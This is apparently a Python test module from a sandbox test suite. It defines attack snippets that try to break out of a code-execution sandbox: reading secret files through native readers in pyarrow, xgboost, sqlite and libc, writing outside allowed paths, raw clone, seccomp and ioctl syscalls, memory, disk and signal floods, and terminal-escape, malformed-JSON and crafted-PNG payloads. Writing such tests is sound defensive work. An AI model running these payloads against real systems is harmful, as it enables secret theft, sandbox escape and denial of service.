"""Attacks through the libraries' own native code, and through the kernel's bookkeeping: maps, limits, clocks, locks."""

from tests.sandbox.attacks import RAW
from tests.sandbox.trial import Attack

# As in attacks.py: kind, how success shows, code; numbers are x86-64's.
_SOURCES: dict[str, tuple[str, str, str]] = {
    "readers_written_in_c": ("fileapi", "canary", RAW + """
import importlib
import pyarrow as pa, xgboost as xgb, PIL.Image
path = "@SECRET_FILE@"
def read_c(path):
    libc.fopen.restype = ctypes.c_void_p
    stream = libc.fopen(path, b"r"); buffer = ctypes.create_string_buffer(200)
    if stream: libc.fread(buffer, 1, 200, ctypes.c_void_p(stream))
    return buffer.value
for name, read in {
    "memory_map": lambda: pa.memory_map(path).read(), "OSFile": lambda: pa.OSFile(path).read(),
    "fs": lambda: importlib.import_module("pyarrow.fs").LocalFileSystem().open_input_file(path).read(), "csv": lambda: importlib.import_module("pyarrow.csv").read_csv(path).to_pydict(),
    "dataset": lambda: importlib.import_module("pyarrow.dataset").dataset(path, format="csv").to_table().to_pydict(),
    "listing": lambda: [f.path for f in pa.fs.LocalFileSystem().get_file_info(pa.fs.FileSelector("@SECRET_DIR@"))] and 1 / 0,
    "xgboost": lambda: xgb.DMatrix(path + "?format=libsvm").get_label(), "booster": lambda: xgb.Booster(model_file=path),
    "sqlite": lambda: importlib.import_module("sqlite3").connect(f"file:{path}?mode=ro", uri=True).execute("select * from sqlite_master").fetchall(),
    "fromfile": lambda: np.fromfile(path, dtype="u1").tobytes(), "c engine": lambda: pd.read_csv(path).to_dict(),
    "fread": lambda: read_c(path.encode()), "image": lambda: PIL.Image.open("@SECRET_PNG@").size,
}.items():
    try: print(name, read())
    except BaseException as error: print(name, type(error).__name__)
"""),
    "writers_written_in_c": ("fileapi", "stdout:PWNED", RAW + """
import pyarrow as pa, pyarrow.fs, pyarrow.parquet, xgboost as xgb, sqlite3
path = "@WDIR@/out"
frame = pd.DataFrame({"a": [1]})
model = xgb.XGBRegressor(n_estimators=1).fit([[1.0], [2.0]], [1.0, 2.0])
attempt("arrow", lambda: pa.OSFile(path, "w"))
attempt("map", lambda: pa.create_memory_map(path, 100))
attempt("fs", lambda: pa.fs.LocalFileSystem().open_output_stream(path))
attempt("folder", lambda: pa.fs.LocalFileSystem().create_dir(path))
attempt("moved", lambda: pa.fs.LocalFileSystem().move("@SECRET_FILE@", path))
attempt("parquet", lambda: pa.parquet.write_table(pa.Table.from_pandas(frame), path))
attempt("xgboost", lambda: model.save_model(path + ".json"))
attempt("numpy", lambda: np.save(path, np.ones(3)))
attempt("memmap", lambda: np.memmap(path, mode="w+", shape=(10,)))
attempt("sqlite", lambda: sqlite3.connect(path).execute("create table t (a)"))
attempt("pickle", lambda: frame.to_pickle(path))
attempt("figure", lambda: plt.figure().savefig(path + ".pdf"))
"""),
    "arrow_over_the_network": ("net", "port", """
import pyarrow as pa, pyarrow.fs
for make in (
    lambda: pa.fs.S3FileSystem(endpoint_override="127.0.0.1:@PORT@", scheme="http", anonymous=True).get_file_info("b/k"),
    lambda: pa.fs.GcsFileSystem(endpoint_override="127.0.0.1:@PORT@", scheme="http", anonymous=True).get_file_info("b/k"),
    lambda: __import__("pyarrow.flight").flight.FlightClient("grpc://127.0.0.1:@PORT@").list_actions(),
    lambda: pd.read_parquet("s3://127.0.0.1:@PORT@/x"), lambda: __import__("xgboost").collective.init(dmlc_communicator="rabit"),
):
    try: make()
    except BaseException as error: print(type(error).__name__, str(error)[:80])
"""),
    "threads_of_other_kinds": ("proc", "stdout:PWNED", RAW + """
for name, flags in (
    ("no sighand", 0x3D0F00 & ~0x800), ("no thread", 0x3D0F00 & ~0x10000), ("new net", 0x3D0F00 | 0x40000000), ("new files", 0x3D0F00 & ~0x400),
    ("untraced", 0x3D0F00 | 0x800000), ("parent", 0x3D0F00 | 0x8000), ("pidfd", 0x3D0F00 | 0x1000), ("io", 0x3D0F00 | 0x80000000), ("vm only", 0x100 | 17),
):
    attempt(name, lambda: nonnegative(call(56, flags, 0, 0, 0, 0)))
attempt("set_tid", lambda: nonnegative(call(435, (ctypes.c_uint64 * 11)(0x100, 0, 0, 0, 17), 88)))
"""),
    "questions_of_its_own": ("proc", "stdout:PWNED", RAW + """
import struct, fcntl
program = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FC00000))
attempt("listener", lambda: nonnegative(call(317, 1, 8, struct.pack("HxxxxxxQ", 1, ctypes.addressof(program)))))
attempt("by prctl", lambda: nonnegative(call(157, 22, 2, struct.pack("HxxxxxxQ", 1, ctypes.addressof(program)))))
for number in range(64):
    for request in (0xC0502100, 0xC0182101, 0x40082102, 0x40182103):
        try: fcntl.ioctl(number, request, bytearray(80), True); print("PWNED", number, hex(request))
        except OSError: pass
"""),
    "floods_of_kernel_objects": ("res", "stdout:PWNED", RAW + """
buffer = ctypes.create_string_buffer(256)
for name, number, *args in (
    ("eventfd", 290, 0, 0), ("old eventfd", 284, 0), ("timerfd", 283, 1, 0), ("signalfd", 289, -1, buffer, 8, 0), ("inotify", 253),
    ("epoll", 291, 0), ("shmat", 30, 0, 0, 0), ("msgsnd", 69, 0, buffer, 8, 0), ("mq_timedsend", 242, 0, buffer, 8, 0, 0), ("memfd", 319, b"x", 4),
    ("flock", 73, 1, 1), ("fallocate", 285, 1, 0, 0, 1 << 30), ("mlock2", 325, buffer, 4096, 1), ("mlockall", 151, 2), ("readahead", 187, 0, 0, 1 << 20),
    ("sync", 162), ("syncfs", 306, 1), ("sync_file_range", 277, 1, 0, 0, 0), ("futex_waitv", 449, buffer, 1, 0, 0, 1), ("set_robust", 274, @DECOY@, buffer, buffer),
    ("tee", 276, 0, 1, 1, 0), ("fsopen", 430, b"tmpfs", 0), ("open_tree", 428, -100, b".", 1), ("name_to_handle", 303, -100, b".", buffer, buffer, 0),
    ("lookup_dcookie", 212, 0, buffer, 256), ("vhangup", 153), ("nfsservctl", 180, 0, 0, 0), ("map_shadow_stack", 453, 0, 4096, 0), ("lsm_list", 461, buffer, buffer, 0),
):
    attempt(name, lambda: nonnegative(call(number, *args)))
import fcntl
for name, command in (("lease", 1024), ("notify", 1026), ("owner", 8), ("signal", 10), ("pipe size", 1031), ("seals", 1033), ("hint", 1036), ("lock", 6), ("open lock", 37)):
    attempt(name, lambda: fcntl.fcntl(os.open("stdout.txt", os.O_RDONLY), command, 1))
"""),
    "priorities_and_processors": ("proc", "stdout:PWNED", RAW + """
attempt("fifo", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
attempt("idle", lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)))
attempt("attr", lambda: nonnegative(call(314, 0, ctypes.create_string_buffer(48), 0)))
attempt("affinity", lambda: os.sched_setaffinity(0, {0}))
attempt("nice", lambda: os.nice(-5))
attempt("io", lambda: nonnegative(call(251, 1, 0, 0x2000)))
attempt("group", lambda: os.setpgid(0, 0) or os.setsid())
attempt("clock", lambda: nonnegative(call(227, 0, ctypes.create_string_buffer(16))))
attempt("adjust", lambda: nonnegative(call(159, ctypes.create_string_buffer(208))))
attempt("personality", lambda: nonnegative(call(135, 0x0400000)))
"""),
    "its_own_clock_and_stops": ("res", "time", """
import os, signal, threading, ctypes
libc = ctypes.CDLL(None)
for number in range(1, 65):
    if number not in (9, 19, 32, 33): libc.signal(number, 1)
signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
def stop():
    while True: os.kill(os.getpid(), signal.SIGSTOP)
threading.Thread(target=stop, daemon=True).start()
while True: os.kill(os.getpid(), signal.SIGTSTP)
"""),
    "libraries_given_up_for_memory": ("res", "mem", RAW + """
import mmap
kept = []
for line in open("/proc/self/maps").read().splitlines():
    span, rights, *_, name = line.split(maxsplit=5) if line.count(" ") > 5 else [*line.split(), ""]
    if any(word in name for word in ("xgboost", "arrow", "sklearn", "scipy", "openblas", "pandas")):
        start, end = (int(part, 16) for part in span.split("-"))
        call(11, start, end - start)
libc.mmap.restype = ctypes.c_long
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
taken = 0
for flags in (0x22, 0x21):
    for size in (64, 16, 4):
        while (place := libc.mmap(None, size << 20, 3, flags, -1, 0)) > 0:
            kept.append((place, size << 20)); taken += size
for place, size in kept: call(28, place, size, 23)
print("taken", taken, flush=True)
os._exit(0)
"""),
    "holes_filled_through_maps": ("res", "disk", RAW + """
import mmap
names = [f"h{i}" for i in range(40)]
maps = []
for name in names:
    try:
        file = os.open(name, os.O_RDWR | os.O_CREAT)
        for size in range(16 << 20, 0, -(64 << 10)):
            try: os.ftruncate(file, size)
            except OSError: continue
            maps.append(mmap.mmap(file, size)); break
        os.close(file)
    except OSError as error: print(error)
print("mapped", sum(map(len, maps)) >> 20, flush=True)
for one in maps:
    call(28, ctypes.addressof(ctypes.c_char.from_buffer(one)), len(one), 23)
"""),
    "one_huge_page_after_another": ("res", "mem", RAW + """
libc.mmap.restype = ctypes.c_long
for flags in (0x40022, 0x40022 | 30 << 26, 0x0122, 0x8022, 0x2022, 0x4022):
    while (place := libc.mmap(None, ctypes.c_size_t(64 << 20), 3, flags, -1, ctypes.c_long(0))) > 0:
        call(28, place, 64 << 20, 14); call(28, place, 64 << 20, 23)
"""),
    "memory_renamed_and_moved": ("proc", "stdout:PWNED", RAW + """
libc.mmap.restype = libc.mremap.restype = ctypes.c_long
code = [line.split("-")[0] for line in open("/proc/self/maps") if "r-xp" in line]
start = int(code[0], 16)
moved = libc.mremap(ctypes.c_void_p(start), ctypes.c_size_t(0), ctypes.c_size_t(4096), 1)
print("moved", moved > 0)
for name, number, *args in (
    ("write again", 10, start, 4096, 7), ("grow down", 10, start, 4096, 4 | 0x01000000), ("key", 330, 0, 0), ("over it", 9, start, 4096, 7, 0x32, -1, 0),
    ("anonymous", 9, 0, 4096, 6, 0x22, -1, 0), ("remap", 216, start, 4096, 0, 0, 0), ("sealed", 462, start, 4096, 0), ("named", 157, 0x53564D41, 0, start, 4096, b"x"),
):
    attempt(name, lambda: nonnegative(call(number, *args)))
"""),
    "control_sequences_in_everything": ("chan", "stdout:\x1b", """
said = "\\x1b]0;owned\\x07\\x1b[31m\\x9b2J\\u202eevil\\u2066\\x08\\x7f"
print(said)
result = {said: said}
raise ValueError(said)
"""),
    "numbers_that_break_readers": ("chan", "result", """
import os
open("result.json", "w").write('{"status": "ok", "value": [1e999, -1e999, NaN, Infinity, 1' + '0' * 4000 + ', "\\\\ud800", {"\\\\u0000": 1e-400}], "error": null, "notes": [{"a": NaN}]}')
os._exit(0)
"""),
    "a_result_that_contains_itself": ("chan", "result", """
result = {"deep": []}; place = result["deep"]
for _ in range(100_000): place.append([]); place = place[0]
place.append(result)
frame = pd.DataFrame({"a": [result]}); result["frame"] = frame; result["array"] = np.array([result], dtype=object)
class Liar(dict):
    __hash__ = object.__hash__
    def items(self):
        while True: yield self, self
    def __len__(self): return -1
    def __repr__(self): return "x" * 5_000
result["liar"] = Liar(); result[Liar()] = float("nan"); result["int"] = 10 ** 100_000
"""),
    "a_result_written_to_the_end": ("chan", "result", """
import os, threading
def write():
    with open("result.json", "r+") as f:
        while True: f.seek(0); f.write('{"status": "ok", "value": "' + "a" * 3_000_000 + '"}')
for _ in range(3): threading.Thread(target=write, daemon=True).start()
os.kill(os.getpid(), 9) if not __import__("time").sleep(0.3) else None
"""),
    "figures_made_of_chunks": ("chan", "fig", """
import os, struct, zlib
def chunk(kind, body): return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))
head = b"\\x89PNG\\r\\n\\x1a\\n"; header = chunk(b"IHDR", struct.pack("!IIBBBBB", 2, 2, 8, 0, 0, 0, 0)); end = chunk(b"IEND", b"")
pixels = zlib.compress(bytes(6))
open("figure_1.png", "wb").write(head + header + chunk(b"IDAT", b"") * 300_000 + end)
open("figure_2.png", "wb").write(head + header + chunk(b"IDAT", zlib.compress(bytes(1 << 26))) + end)
open("figure_3.png", "wb").write(head + header + header + chunk(b"IDAT", pixels) + end)
open("figure_4.png", "wb").write(head + header + struct.pack("!I", 0xFFFFFFFF) + b"IDAT" + end)
open("figure_5.png", "wb").write(head + header + chunk(b"tEXt", b"<script>") * 1000 + chunk(b"IDAT", pixels) + end + b"MZ" * 1000)
open("figure_6.png", "wb").write(head + header + chunk(b"acTL", bytes(8)) + chunk(b"IDAT", pixels) + end)
open("result.json", "w").write('{"status": "ok", "value": 1}'); os._exit(0)
"""),
}  # fmt: skip

ATTACKS_FROM_BELOW = [Attack(name, *source) for name, source in _SOURCES.items()]
